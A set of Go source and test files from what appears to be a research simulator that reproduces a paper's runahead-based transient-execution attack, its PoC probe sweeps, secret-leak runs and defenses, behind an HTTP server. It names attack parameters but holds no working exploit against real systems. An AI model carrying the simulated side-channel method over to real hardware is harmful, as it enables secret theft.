		t.Fatalf("job: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	waitJob(t, ts.URL, view.ID)

	waitFor(t, "request log", func() bool {
		return sink.find("request", func(r map[string]any) bool {
			return r["route"] == "POST /v1/run/{driver}" &&
				r["path"] == "/v1/run/fig9" &&
				r["method"] == "POST" &&
				r["status"] == float64(200) &&
				r["cache"] != nil && r["duration_ms"] != nil
		}) != nil
	})
	waitFor(t, "job-get log with job id", func() bool {
		return sink.find("request", func(r map[string]any) bool {
			return r["route"] == "GET /v1/jobs/{id}" && r["job"] == view.ID
		}) != nil
	})
	waitFor(t, "job submitted log", func() bool {
		return sink.find("job submitted", func(r map[string]any) bool {
			return r["job"] == view.ID && r["kind"] == "fig9"
		}) != nil
	})
	waitFor(t, "job leased log", func() bool {
		return sink.find("job leased", func(r map[string]any) bool {
			return r["job"] == view.ID && r["attempt"] == float64(1)
		}) != nil
	})
	waitFor(t, "job finished log", func() bool {
		return sink.find("job finished", func(r map[string]any) bool {
			return r["job"] == view.ID && r["status"] == JobDone && r["duration_ms"] != nil
		}) != nil
	})
}

// jsonDecodePump is an io.Writer decoding each complete JSON line into the
// sink (slog handlers write one line per record in a single Write call).
type jsonDecodePump struct {
	mu   sync.Mutex
	buf  bytes.Buffer
	sink *logSink
}

func (p *jsonDecodePump) Write(b []byte) (int, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.buf.Write(b)
	for {
		line, err := p.buf.ReadBytes('\n')
		if err != nil {
			p.buf.Write(line) // incomplete line: keep for next write
			break
		}
		var rec map[string]any
		if json.Unmarshal(line, &rec) == nil {
			p.sink.add(rec)
		}
	}
	return len(b), nil
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// TestPprofGated pins that the profiler is mounted only on request.
func TestPprofGated(t *testing.T) {
	_, ts := newTestServer(t)
	if code, _, _ := do(t, "GET", ts.URL+"/debug/pprof/", ""); code != http.StatusNotFound {
		t.Fatalf("pprof served without EnablePprof: %d", code)
	}

	s := New(Options{EnablePprof: true})
	pts := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		pts.Close()
		s.Close()
	})
	code, _, body := do(t, "GET", pts.URL+"/debug/pprof/cmdline", "")
	if code != http.StatusOK {
		t.Fatalf("pprof cmdline: %d %s", code, body)
	}
}
