package server

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"specrun/internal/asm"
	"specrun/internal/prog"
)

// testProgramSrc is a tiny terminating program for endpoint tests.
const testProgramSrc = `
.org 0x1000
start:
    movi r1, 8
loop:
    addi r1, r1, -1
    bne  r1, r0, loop
    halt
`

// testProgramBinary is testProgramSrc in canonical interchange form.
func testProgramBinary(t *testing.T) []byte {
	t.Helper()
	p, err := asm.Parse("test", testProgramSrc)
	if err != nil {
		t.Fatal(err)
	}
	bin, err := prog.Encode(p)
	if err != nil {
		t.Fatal(err)
	}
	return bin
}

// The acceptance property of the interchange cache key: the same program
// submitted as asm text and as canonical binary lands on one cache entry.
func TestRunProgramAsmBinaryShareCache(t *testing.T) {
	_, ts := newTestServer(t)

	asmBody, _ := json.Marshal(map[string]any{"asm": testProgramSrc})
	code, hdr, body1 := do(t, "POST", ts.URL+"/v1/run/program", string(asmBody))
	if code != http.StatusOK {
		t.Fatalf("asm submission: %d %s", code, body1)
	}
	if hdr.Get("X-Cache") != "MISS" {
		t.Fatalf("first submission X-Cache = %q, want MISS", hdr.Get("X-Cache"))
	}

	binBody, _ := json.Marshal(map[string]any{
		"binary": base64.StdEncoding.EncodeToString(testProgramBinary(t)),
	})
	code, hdr, body2 := do(t, "POST", ts.URL+"/v1/run/program", string(binBody))
	if code != http.StatusOK {
		t.Fatalf("binary submission: %d %s", code, body2)
	}
	if hdr.Get("X-Cache") != "HIT" {
		t.Fatalf("binary submission X-Cache = %q, want HIT (shared entry)", hdr.Get("X-Cache"))
	}
	if !bytes.Equal(body1, body2) {
		t.Fatalf("asm and binary responses differ:\n%s\n%s", body1, body2)
	}

	var res ProgramResponse
	if err := json.Unmarshal(body1, &res); err != nil {
		t.Fatal(err)
	}
	if res.Sprog != prog.Hash(testProgramBinary(t)) {
		t.Fatalf("sprog hash = %q, want content address of canonical binary", res.Sprog)
	}
	if res.Insts != 4 || res.Stats.Cycles == 0 || res.Stats.Committed == 0 {
		t.Fatalf("unexpected result: %+v", res)
	}
}

func TestRunProgramInvalid(t *testing.T) {
	_, ts := newTestServer(t)
	bin64 := base64.StdEncoding.EncodeToString(testProgramBinary(t))
	cases := []struct {
		name, body, wantErr string
	}{
		{"empty", `{}`, "one of asm or binary"},
		{"both", fmt.Sprintf(`{"asm":"halt","binary":%q}`, bin64), "mutually exclusive"},
		{"parse error", `{"asm":"movi r1, @@"}`, "request:"},
		{"bad binary", `{"binary":"aGVsbG8="}`, "prog:"},
		{"budget", fmt.Sprintf(`{"asm":"halt","max_cycles":%d}`, maxProgramCycles+1), "exceeds limit"},
		{"bad config", `{"asm":"halt","config":{"nonsense":1}}`, "config:"},
	}
	for _, tc := range cases {
		code, _, body := do(t, "POST", ts.URL+"/v1/run/program", tc.body)
		if code != http.StatusBadRequest {
			t.Fatalf("%s: status %d %s, want 400", tc.name, code, body)
		}
		if !strings.Contains(string(body), tc.wantErr) {
			t.Fatalf("%s: body %s, want %q", tc.name, body, tc.wantErr)
		}
	}
}

// sseEvent is one parsed server-sent event.
type sseEvent struct {
	name string
	view JobView
}

// readSSE consumes a text/event-stream body into parsed events.
func readSSE(t *testing.T, r *bufio.Reader) []sseEvent {
	t.Helper()
	var events []sseEvent
	var cur sseEvent
	for {
		line, err := r.ReadString('\n')
		if line == "\n" && cur.name != "" {
			events = append(events, cur)
			cur = sseEvent{}
		}
		if after, ok := strings.CutPrefix(line, "event: "); ok {
			cur.name = strings.TrimSpace(after)
		}
		if after, ok := strings.CutPrefix(line, "data: "); ok {
			if err := json.Unmarshal([]byte(after), &cur.view); err != nil {
				t.Fatalf("bad event payload %q: %v", after, err)
			}
		}
		if err != nil {
			return events
		}
	}
}

// A program job's SSE stream ends with exactly one terminal event named by
// the final status, and the job's stored result matches the synchronous
// endpoint for the same submission.
func TestProgramJobEvents(t *testing.T) {
	_, ts := newTestServer(t)

	jobBody, _ := json.Marshal(map[string]any{"program": map[string]any{"asm": testProgramSrc}})
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", string(jobBody))
	if code != http.StatusAccepted {
		t.Fatalf("job submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	if view.Kind != "program" {
		t.Fatalf("job kind = %q, want program", view.Kind)
	}

	resp, err := http.Get(ts.URL + "/v1/jobs/" + view.ID + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("events: %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("Content-Type = %q", ct)
	}
	events := readSSE(t, bufio.NewReader(resp.Body))
	if len(events) == 0 {
		t.Fatal("no events received")
	}
	last := events[len(events)-1]
	if last.name != JobDone {
		t.Fatalf("terminal event = %q (%+v), want %q", last.name, last.view, JobDone)
	}
	if last.view.Status != JobDone || len(last.view.Result) != 0 {
		t.Fatalf("terminal view = %+v, want done without inline result", last.view)
	}
	for _, ev := range events[:len(events)-1] {
		if ev.name != "progress" {
			t.Fatalf("non-terminal event named %q", ev.name)
		}
	}

	// The stored result is byte-identical to the synchronous endpoint's body
	// (same cache entry).
	reqBody, _ := json.Marshal(map[string]any{"asm": testProgramSrc})
	code, hdr, syncBody := do(t, "POST", ts.URL+"/v1/run/program", string(reqBody))
	if code != http.StatusOK || hdr.Get("X-Cache") != "HIT" {
		t.Fatalf("sync after job: %d X-Cache=%q", code, hdr.Get("X-Cache"))
	}
	code, _, jobResult := do(t, "GET", ts.URL+"/v1/jobs/"+view.ID+"/result", "")
	if code != http.StatusOK || !bytes.Equal(jobResult, syncBody) {
		t.Fatalf("job result differs from sync body: %d\n%s\n%s", code, jobResult, syncBody)
	}
}

// An SSE subscription to an already-finished job yields just the terminal
// event; an unknown id is a 404.
func TestJobEventsTerminalAndUnknown(t *testing.T) {
	s, ts := newTestServer(t)

	jobBody, _ := json.Marshal(map[string]any{"program": map[string]any{"asm": "halt"}})
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", string(jobBody))
	if code != http.StatusAccepted {
		t.Fatalf("job submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		v, ok := s.jobs.get(view.ID)
		if ok && v.Status != JobRunning && v.Status != JobPending {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("job never finished")
		}
		time.Sleep(5 * time.Millisecond)
	}

	code, hdr, stream := do(t, "GET", ts.URL+"/v1/jobs/"+view.ID+"/events", "")
	if code != http.StatusOK || hdr.Get("Content-Type") != "text/event-stream" {
		t.Fatalf("events on finished job: %d %q", code, hdr.Get("Content-Type"))
	}
	events := readSSE(t, bufio.NewReader(bytes.NewReader(stream)))
	if len(events) != 1 || events[0].name != JobDone {
		t.Fatalf("events = %+v, want single done event", events)
	}

	code, _, _ = do(t, "GET", ts.URL+"/v1/jobs/nope/events", "")
	if code != http.StatusNotFound {
		t.Fatalf("unknown job events: %d, want 404", code)
	}
}

// Program submissions surface in the metrics endpoint by format and outcome,
// and the SSE gauge family is registered.
func TestProgramMetrics(t *testing.T) {
	_, ts := newTestServer(t)

	reqBody, _ := json.Marshal(map[string]any{"asm": testProgramSrc})
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/program", string(reqBody)); code != http.StatusOK {
		t.Fatalf("run: %d %s", code, body)
	}
	do(t, "POST", ts.URL+"/v1/run/program", `{}`)

	_, _, metricsBody := do(t, "GET", ts.URL+"/metrics", "")
	text := string(metricsBody)
	for _, want := range []string{
		`specrun_program_submissions_total{format="asm",outcome="ok"} 1`,
		`specrun_program_submissions_total{format="binary",outcome="invalid"} 1`,
		"specrun_sse_streams_active 0",
	} {
		if !strings.Contains(text, want) {
			t.Fatalf("metrics missing %q:\n%s", want, text)
		}
	}
}
