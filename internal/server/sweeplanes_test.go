package server

import (
	"context"
	"encoding/json"
	"testing"

	"specrun/internal/sweep"
)

// TestSweepLaneInvariant pins the batched ipc-sweep path: the merged rows —
// including the error column for an invalid grid point — are byte-identical
// to the serial path at every lane count.
func TestSweepLaneInvariant(t *testing.T) {
	spec := SweepSpec{
		Mode:      "ipc",
		ROB:       []int{128, 256},
		Runahead:  []string{"none", "original"},
		Workloads: []string{"mcf", "bwave"},
	}
	serial, _, err := RunSweep(context.Background(), spec, sweep.Options{Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	want, err := json.Marshal(serial)
	if err != nil {
		t.Fatal(err)
	}
	for _, lanes := range []int{1, 3, 8} {
		spec.Lanes = lanes
		res, _, err := RunSweep(context.Background(), spec, sweep.Options{Workers: 2})
		if err != nil {
			t.Fatalf("lanes=%d: %v", lanes, err)
		}
		got, err := json.Marshal(res)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != string(want) {
			t.Errorf("lanes=%d: sweep rows diverged from serial:\nbatched: %s\nserial:  %s", lanes, got, want)
		}
	}
}
