package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"

	"specrun/internal/attack"
	"specrun/internal/core"
	"specrun/internal/sweep"
)

// Driver is one paper experiment exposed at POST /v1/run/{name} and behind
// the CLI's --format json.
type Driver struct {
	Name       string
	Artifact   string // the paper table/figure the endpoint reproduces
	UsesParams bool   // attack params participate in execution and the cache key
	run        func(ctx context.Context, cfg core.Config, p attack.Params, workers int) (any, error)
}

// IPCResponse is the body of POST /v1/run/ipc (Fig. 7).
type IPCResponse struct {
	Rows        []core.IPCRow `json:"rows"`
	MeanSpeedup float64       `json:"mean_speedup"`
}

// Fig10Response is the body of POST /v1/run/fig10 (the N1/N2/N3 windows).
type Fig10Response struct {
	N1 attack.WindowResult `json:"n1"`
	N2 attack.WindowResult `json:"n2"`
	N3 attack.WindowResult `json:"n3"`
}

// VariantsResponse is the body of POST /v1/run/variants (§4.3/§4.4 matrix).
type VariantsResponse struct {
	Rows []core.VariantOutcome `json:"rows"`
}

// LeakResponse is the body of POST /v1/run/leak (multi-byte extraction).
type LeakResponse struct {
	Recovered string          `json:"recovered"` // recovered secret as text (0 where the channel missed)
	Bytes     []byte          `json:"bytes"`     // the same bytes, base64 (safe for non-UTF-8 secrets)
	Results   []attack.Result `json:"results"`   // one PoC run per secret byte
}

// runOne executes a single PoC simulation under the server-wide worker
// budget; single runs bypass the sweep engine, so they acquire the context
// gate themselves.
func runOne(ctx context.Context, cfg core.Config, p attack.Params) (core.AttackResult, error) {
	if g := sweep.GateFrom(ctx); g != nil {
		if err := g.Acquire(ctx); err != nil {
			return core.AttackResult{}, err
		}
		defer g.Release()
	}
	return core.RunAttack(cfg, p)
}

// drivers lists the run endpoints in paper order.  fig9 and attack share an
// implementation: fig9 with default params is exactly the paper's Fig. 9,
// attack is the general form.
var drivers = []Driver{
	{"ipc", "Fig. 7 — normalized IPC over the six benchmarks", false,
		func(ctx context.Context, cfg core.Config, _ attack.Params, workers int) (any, error) {
			rows, err := core.RunIPCComparisonCtx(ctx, cfg, workers)
			if err != nil {
				return nil, err
			}
			return IPCResponse{Rows: rows, MeanSpeedup: core.MeanSpeedup(rows)}, nil
		}},
	{"fig9", "Fig. 9 — PHT PoC probe sweep (secret byte 86)", true,
		func(ctx context.Context, cfg core.Config, p attack.Params, _ int) (any, error) {
			return runOne(ctx, cfg, p)
		}},
	{"fig10", "Fig. 10 — N1/N2/N3 transient-window measurements", false,
		func(ctx context.Context, cfg core.Config, _ attack.Params, workers int) (any, error) {
			n1, n2, n3, err := core.RunFig10Ctx(ctx, cfg, workers)
			if err != nil {
				return nil, err
			}
			return Fig10Response{N1: n1, N2: n2, N3: n3}, nil
		}},
	{"fig11", "Fig. 11 — beyond-the-ROB leak on both machines", false,
		func(ctx context.Context, cfg core.Config, _ attack.Params, workers int) (any, error) {
			return core.RunFig11Ctx(ctx, cfg, workers)
		}},
	{"defense", "§6 — SL cache and skip-INV mitigations", false,
		func(ctx context.Context, cfg core.Config, _ attack.Params, workers int) (any, error) {
			return core.RunDefenseCtx(ctx, cfg, workers)
		}},
	{"variants", "§4.3/§4.4 — attack applicability matrix", false,
		func(ctx context.Context, cfg core.Config, _ attack.Params, workers int) (any, error) {
			rows, err := core.RunVariantMatrixCtx(ctx, cfg, workers)
			if err != nil {
				return nil, err
			}
			return VariantsResponse{Rows: rows}, nil
		}},
	{"attack", "one PoC run with explicit variant/secret/padding", true,
		func(ctx context.Context, cfg core.Config, p attack.Params, _ int) (any, error) {
			return runOne(ctx, cfg, p)
		}},
	{"leak", "multi-byte secret extraction (one PoC per byte)", true,
		func(ctx context.Context, cfg core.Config, p attack.Params, workers int) (any, error) {
			got, results, err := attack.LeakSecretCtx(ctx, cfg, p, workers)
			if err != nil {
				return nil, err
			}
			return LeakResponse{Recovered: string(got), Bytes: got, Results: results}, nil
		}},
}

// Drivers returns the run-endpoint registry in paper order.
func Drivers() []Driver {
	return append([]Driver(nil), drivers...)
}

// DriverByName looks up a run endpoint.
func DriverByName(name string) (Driver, bool) {
	for _, d := range drivers {
		if d.Name == name {
			return d, true
		}
	}
	return Driver{}, false
}

// Run executes the named driver.  Shared by the HTTP handlers, the async
// job runner and the CLI's --format json, so every consumer produces the
// same result values (and, through [Encode], the same bytes).
func Run(ctx context.Context, driver string, cfg core.Config, p attack.Params, workers int) (any, error) {
	d, ok := DriverByName(driver)
	if !ok {
		return nil, fmt.Errorf("server: unknown driver %q", driver)
	}
	return d.run(ctx, cfg, p, workers)
}

// cacheKey derives the content-addressed key for one driver invocation.
// Worker counts are deliberately excluded: results are worker-invariant.
func (d Driver) cacheKey(cfg core.Config, p attack.Params) (string, error) {
	if d.UsesParams {
		return core.HashKey(d.Name, core.Normalize(cfg), p)
	}
	return core.HashKey(d.Name, core.Normalize(cfg))
}

// RunRequest is the body of POST /v1/run/{driver} (and, embedded, of
// POST /v1/jobs).  Both documents are partial overlays: config decodes over
// core.DefaultConfig() and params over attack.DefaultParams(), so `{}` or
// an empty body runs the paper's Table 1 machine.
type RunRequest struct {
	Config  json.RawMessage `json:"config,omitempty"`
	Params  json.RawMessage `json:"params,omitempty"`
	Workers int             `json:"workers,omitempty"` // worker goroutines for multi-run drivers (0 = GOMAXPROCS); the server budget still applies
}

// resolve overlays the partial documents onto the paper defaults.  The
// returned config is Normalize'd — the exact value the cache key hashes —
// so an explicitly zeroed field ("rob_size": 0 = use the default) can
// never simulate a machine other than the one its key names.
func (r RunRequest) resolve() (core.Config, attack.Params, error) {
	cfg := core.DefaultConfig()
	if len(r.Config) > 0 {
		if err := strictUnmarshal(r.Config, &cfg); err != nil {
			return cfg, attack.Params{}, fmt.Errorf("config: %w", err)
		}
	}
	p := attack.DefaultParams()
	if len(r.Params) > 0 {
		if err := strictUnmarshal(r.Params, &p); err != nil {
			return cfg, p, fmt.Errorf("params: %w", err)
		}
	}
	cfg = core.Normalize(cfg)
	if err := core.Validate(cfg); err != nil {
		return cfg, p, err
	}
	if err := validateParams(p); err != nil {
		return cfg, p, err
	}
	return cfg, p, nil
}

// validateParams bounds the attack parameters, so a hostile document 400s
// instead of panicking the PoC builder (the probe stride must be a power
// of two) or requesting an absurd amount of simulation.
func validateParams(p attack.Params) error {
	if n := len(p.Secret); n < 1 || n > 256 {
		return fmt.Errorf("params: secret length %d out of range (1..256 bytes)", n)
	}
	if p.SecretIdx < 0 || p.SecretIdx >= len(p.Secret) {
		return fmt.Errorf("params: secret_idx %d out of range for a %d-byte secret", p.SecretIdx, len(p.Secret))
	}
	if p.TrainingRounds < 1 || p.TrainingRounds > 1<<12 {
		return fmt.Errorf("params: training_rounds %d out of range (1..%d)", p.TrainingRounds, 1<<12)
	}
	if p.ProbeStride < 64 || p.ProbeStride > 1<<16 || p.ProbeStride&(p.ProbeStride-1) != 0 {
		return fmt.Errorf("params: probe_stride %d must be a power of two in 64..%d", p.ProbeStride, 1<<16)
	}
	if p.NopPad < 0 || p.NopPad > 1<<16 {
		return fmt.Errorf("params: nop_pad %d out of range (0..%d)", p.NopPad, 1<<16)
	}
	return nil
}

// strictUnmarshal decodes JSON rejecting unknown fields, so a typo in a
// request body fails loudly instead of silently running the defaults.
func strictUnmarshal(data []byte, v any) error {
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	return dec.Decode(v)
}
