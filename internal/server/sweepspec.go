package server

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strconv"

	"specrun/internal/attack"
	"specrun/internal/core"
	"specrun/internal/cpu"
	"specrun/internal/runahead"
	"specrun/internal/sweep"
	"specrun/internal/workload"
)

// SweepSpec is the grid specification shared by `specrun sweep` and
// POST /v1/sweep: the cross product of the axes below expands into
// independent simulations on the sweep engine.  Empty fields take the same
// defaults as the CLI flags.
type SweepSpec struct {
	Mode      string   `json:"mode,omitempty"`      // "ipc" (default) | "attack"
	ROB       []int    `json:"rob,omitempty"`       // default [256]
	Runahead  []string `json:"runahead,omitempty"`  // default ["none","original"]
	Workloads []string `json:"workloads,omitempty"` // ipc mode; empty or ["all"] = every kernel
	Variants  []string `json:"variants,omitempty"`  // attack mode; default ["pht"]
	Secrets   []int    `json:"secrets,omitempty"`   // attack mode; default [86]
	Pad       int      `json:"pad,omitempty"`       // attack mode: nops before the secret access
	Secure    bool     `json:"secure,omitempty"`    // §6 SL-cache defense on every point
	Workers   int      `json:"workers,omitempty"`   // worker goroutines (0 = GOMAXPROCS)
	// Lanes > 1 advances the ipc-mode grid in lockstep lane groups on the
	// batched simulation driver (core.RunProgramJobsCtx); each group occupies
	// one worker slot.  Rows are byte-identical at any lane count — lanes is
	// an execution knob, not part of the grid — but it stays in the spec so
	// HTTP callers can set it.  Attack mode ignores it (attack runs drive
	// their own probe loops, not a single program simulation).
	Lanes int `json:"lanes,omitempty"`
}

// SweepResult is one row per grid point: the axis values (as strings) plus
// the measured metrics; a failing point carries its message in the "error"
// column instead of hiding the rest of the grid.
type SweepResult struct {
	Cols []string         `json:"cols"`
	Rows []map[string]any `json:"rows"`
}

// withDefaults fills the CLI-equivalent defaults, so an explicit default
// and an omitted field expand (and content-hash) identically.
func (s SweepSpec) withDefaults() SweepSpec {
	if s.Mode == "" {
		s.Mode = "ipc"
	}
	if len(s.ROB) == 0 {
		s.ROB = []int{256}
	}
	if len(s.Runahead) == 0 {
		s.Runahead = []string{"none", "original"}
	}
	if s.Mode == "ipc" && (len(s.Workloads) == 0 || (len(s.Workloads) == 1 && s.Workloads[0] == "all")) {
		s.Workloads = nil
		for _, k := range workload.Kernels() {
			s.Workloads = append(s.Workloads, k.Name)
		}
	}
	if len(s.Variants) == 0 {
		s.Variants = []string{"pht"}
	}
	if len(s.Secrets) == 0 {
		s.Secrets = []int{86}
	}
	return s
}

// axes validates the spec and assembles the grid axes; every axis value is
// checked up front so a typo fails before any simulation starts.
func (s SweepSpec) axes() ([]sweep.Axis, error) {
	robAxis := sweep.Axis{Name: "rob"}
	for _, n := range s.ROB {
		if n <= 0 {
			return nil, fmt.Errorf("sweep: bad ROB size %d", n)
		}
		robAxis.Values = append(robAxis.Values, strconv.Itoa(n))
	}
	kindAxis := sweep.Axis{Name: "runahead"}
	for _, v := range s.Runahead {
		var k runahead.Kind
		if err := k.UnmarshalText([]byte(v)); err != nil {
			return nil, fmt.Errorf("sweep: %w", err)
		}
		kindAxis.Values = append(kindAxis.Values, v)
	}
	axes := []sweep.Axis{robAxis, kindAxis}
	switch s.Mode {
	case "ipc":
		wAxis := sweep.Axis{Name: "workload"}
		for _, v := range s.Workloads {
			if _, err := workload.ByName(v); err != nil {
				return nil, err
			}
			wAxis.Values = append(wAxis.Values, v)
		}
		axes = append(axes, wAxis)
	case "attack":
		vAxis := sweep.Axis{Name: "variant"}
		for _, v := range s.Variants {
			var av attack.Variant
			if err := av.UnmarshalText([]byte(v)); err != nil {
				return nil, fmt.Errorf("sweep: %w", err)
			}
			vAxis.Values = append(vAxis.Values, v)
		}
		sAxis := sweep.Axis{Name: "secret"}
		for _, n := range s.Secrets {
			if n < 0 || n > 255 {
				return nil, fmt.Errorf("sweep: secret byte %d out of range", n)
			}
			sAxis.Values = append(sAxis.Values, strconv.Itoa(n))
		}
		axes = append(axes, vAxis, sAxis)
	default:
		return nil, fmt.Errorf("sweep: unknown mode %q", s.Mode)
	}
	for _, a := range axes {
		if len(a.Values) == 0 {
			return nil, fmt.Errorf("sweep: axis %q has no values", a.Name)
		}
	}
	return axes, nil
}

// RunSweep expands and executes a sweep grid.  On a validation error the
// result is zero and the error describes the bad field; otherwise rows
// cover the full grid, per-point failures land in the "error" column (and
// in the returned join, see sweep.Errors), and a cancelled run marks the
// points that never simulated.
func RunSweep(ctx context.Context, spec SweepSpec, opt sweep.Options) (SweepResult, []sweep.Axis, error) {
	spec = spec.withDefaults()
	axes, err := spec.axes()
	if err != nil {
		return SweepResult{}, nil, err
	}
	points := sweep.Expand(axes)
	if opt.Workers == 0 {
		opt.Workers = spec.Workers
	}

	var cols []string
	var results []map[string]any
	var runErr error
	switch spec.Mode {
	case "ipc":
		cols, results, runErr = sweepIPC(ctx, points, spec.Secure, spec.Lanes, opt)
	case "attack":
		cols, results, runErr = sweepAttack(ctx, points, spec.Pad, spec.Secure, opt)
	}
	return SweepResult{Cols: cols, Rows: mergeSweepRows(points, results, runErr)}, axes, runErr
}

// pointConfig builds the machine configuration for one grid point.
func pointConfig(p sweep.Point, secure bool) (core.Config, error) {
	cfg := core.DefaultConfig()
	rob, err := strconv.Atoi(p["rob"])
	if err != nil {
		return cfg, fmt.Errorf("sweep: bad ROB size %q", p["rob"])
	}
	cfg.ROBSize = rob
	if err := cfg.Runahead.Kind.UnmarshalText([]byte(p["runahead"])); err != nil {
		return cfg, err
	}
	cfg.Secure.Enabled = secure
	return cfg, nil
}

func sweepIPC(ctx context.Context, points []sweep.Point, secure bool, lanes int, opt sweep.Options) ([]string, []map[string]any, error) {
	cols := []string{"rob", "runahead", "workload", "cycles", "insts", "ipc", "episodes", "error"}
	ipcCells := func(st cpu.Stats) map[string]any {
		return map[string]any{
			"cycles":   st.Cycles,
			"insts":    st.Committed,
			"ipc":      st.IPC(),
			"episodes": st.RunaheadEpisodes,
		}
	}
	if lanes > 1 {
		results, err := sweepIPCLanes(ctx, points, secure, lanes, opt, ipcCells)
		return cols, results, err
	}
	results, err := sweep.Run(ctx, points, func(_ context.Context, p sweep.Point) (map[string]any, error) {
		cfg, err := pointConfig(p, secure)
		if err != nil {
			return nil, err
		}
		k, err := workload.ByName(p["workload"])
		if err != nil {
			return nil, err
		}
		st, err := core.RunProgramStats(cfg, k.Build())
		if err != nil {
			return nil, err
		}
		return ipcCells(st), nil
	}, opt)
	return cols, results, err
}

// sweepIPCLanes is the batched ipc-mode grid: points resolve to (config,
// kernel) jobs up front, the valid jobs run in lockstep lane groups, and the
// per-point results and error strings come back exactly as the serial path
// would report them (sweep.JobError per failing point, ascending by index).
func sweepIPCLanes(ctx context.Context, points []sweep.Point, secure bool, lanes int, opt sweep.Options, cells func(cpu.Stats) map[string]any) ([]map[string]any, error) {
	results := make([]map[string]any, len(points))
	var jobErrs []*sweep.JobError
	fail := func(i int, err error) { jobErrs = append(jobErrs, &sweep.JobError{Index: i, Err: err}) }

	jobs := make([]core.ProgramJob, 0, len(points))
	jobIdx := make([]int, 0, len(points)) // jobs[j] simulates points[jobIdx[j]]
	for i, p := range points {
		cfg, err := pointConfig(p, secure)
		if err != nil {
			fail(i, err)
			continue
		}
		k, err := workload.ByName(p["workload"])
		if err != nil {
			fail(i, err)
			continue
		}
		jobs = append(jobs, core.ProgramJob{Cfg: cfg, Prog: k.Build()})
		jobIdx = append(jobIdx, i)
	}
	stats, errs, runErr := core.RunProgramJobsCtx(ctx, jobs, lanes, opt.Workers)
	for j, i := range jobIdx {
		if errs[j] != nil {
			fail(i, errs[j])
			continue
		}
		if runErr != nil && stats[j].Cycles == 0 {
			continue // cancelled before this group ran: leave the row unmeasured
		}
		results[i] = cells(stats[j])
	}
	sort.Slice(jobErrs, func(a, b int) bool { return jobErrs[a].Index < jobErrs[b].Index })
	errList := make([]error, 0, len(jobErrs)+1)
	if runErr != nil {
		errList = append(errList, runErr)
	}
	for _, je := range jobErrs {
		errList = append(errList, je)
	}
	return results, errors.Join(errList...)
}

func sweepAttack(ctx context.Context, points []sweep.Point, pad int, secure bool, opt sweep.Options) ([]string, []map[string]any, error) {
	results, err := sweep.Run(ctx, points, func(_ context.Context, p sweep.Point) (map[string]any, error) {
		cfg, err := pointConfig(p, secure)
		if err != nil {
			return nil, err
		}
		params := attack.DefaultParams()
		if err := params.Variant.UnmarshalText([]byte(p["variant"])); err != nil {
			return nil, err
		}
		sec, err := strconv.Atoi(p["secret"])
		if err != nil {
			return nil, fmt.Errorf("sweep: bad secret %q", p["secret"])
		}
		params.Secret = []byte{byte(sec)}
		params.NopPad = pad
		r, err := core.RunAttack(cfg, params)
		if err != nil {
			return nil, err
		}
		leakedByte := -1
		if v, ok := r.LeakedByte(); ok {
			leakedByte = int(v)
		}
		return map[string]any{
			"leaked":       r.Leaked,
			"leaked_byte":  leakedByte,
			"best_idx":     r.BestIdx,
			"best_lat":     r.BestLat,
			"median":       r.Median,
			"episodes":     r.Stats.RunaheadEpisodes,
			"inv_branches": r.Stats.INVBranches,
		}, nil
	}, opt)
	cols := []string{"rob", "runahead", "variant", "secret", "leaked", "leaked_byte", "best_idx", "best_lat", "median", "episodes", "inv_branches", "error"}
	return cols, results, err
}

// mergeSweepRows joins grid points with their metric maps, attaching
// per-job error strings so one failing point doesn't hide the rest.
// Points the engine never ran (cancelled mid-sweep) are marked in the
// error column so downstream tooling can tell them from measured rows.
func mergeSweepRows(points []sweep.Point, results []map[string]any, err error) []map[string]any {
	perJob := map[int]string{}
	for _, je := range sweep.Errors(err) {
		perJob[je.Index] = je.Err.Error()
	}
	rows := make([]map[string]any, len(points))
	for i, p := range points {
		errCell := perJob[i]
		if errCell == "" && results[i] == nil && err != nil {
			errCell = "cancelled"
		}
		row := map[string]any{"error": errCell}
		for k, v := range p {
			row[k] = v
		}
		for k, v := range results[i] {
			row[k] = v
		}
		rows[i] = row
	}
	return rows
}
