package server

import (
	"runtime/debug"
	"strings"
)

// Version reports the module version and VCS revision baked into the
// binary by the Go toolchain.  `specrun version` and GET /v1/stats both
// print exactly this string.
func Version() string {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return "unknown"
	}
	v := bi.Main.Version
	if v == "" {
		v = "(devel)"
	}
	var rev, dirty string
	for _, s := range bi.Settings {
		switch s.Key {
		case "vcs.revision":
			rev = s.Value
		case "vcs.modified":
			if s.Value == "true" {
				dirty = "+dirty"
			}
		}
	}
	if len(rev) > 12 {
		rev = rev[:12]
	}
	// Pseudo-versions already embed the revision; don't print it twice.
	if rev != "" && !strings.Contains(v, rev) {
		v += " (" + rev + dirty + ")"
	}
	return v
}
