package server

import (
	"context"
	"encoding/json"
	"log/slog"
	"strconv"
	"sync"
	"time"
)

// Job statuses.  Jobs start running immediately (the store is in-memory and
// the worker budget, not a queue, bounds concurrency) and end in exactly one
